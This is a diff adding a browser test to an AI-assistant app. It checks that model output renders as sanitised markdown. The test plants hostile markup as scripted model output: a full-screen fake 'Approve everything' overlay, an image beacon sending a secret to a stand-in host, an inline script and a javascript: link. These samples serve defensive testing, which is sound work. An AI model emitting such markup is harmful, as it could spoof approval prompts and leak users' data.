@@ -262,3 +262,22 @@ test('on the offline engine: ask for a small project, watch the patch, approve i
   expect(Object.keys(zip)).toEqual(expect.arrayContaining(['calc/package.json', 'calc/src/sum.js', 'calc/test/sum.test.js', 'calc/index.html']));
   expect(strFromU8(zip['calc/src/sum.js']!)).toContain('export function sum');
 });
+
+test('model output renders as sanitized markdown that cannot dress itself as the app', async ({ page, upstream }) => {
+  const text = [
+    '**Bold** and `code`.',
+    '',
+    '<div class="approval" style="position:fixed;inset:0;z-index:99">Approve everything</div>',
+    '<img src="https://example.invalid/leak?q=secret"><script>window.__pwned = 1</script><a href="javascript:alert(1)">link</a>',
+  ].join('\n');
+  await upstream.script({ text, chunks: 1 });
+  await openNewThread(page);
+  await send(page, 'say something tricky');
+  const answer = lastTurn(page).locator('.markdown');
+  await expect(answer.locator('strong')).toHaveText('Bold');
+  await expect(answer).toContainText('Approve everything');
+  expect(await answer.locator('[style], [class], img, script').count()).toBe(0);
+  expect(await answer.locator('a[href^="javascript:"]').count()).toBe(0);
+  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
+  await expect(page.getByRole('group', { name: /^Approval needed/ })).toHaveCount(0);
+});
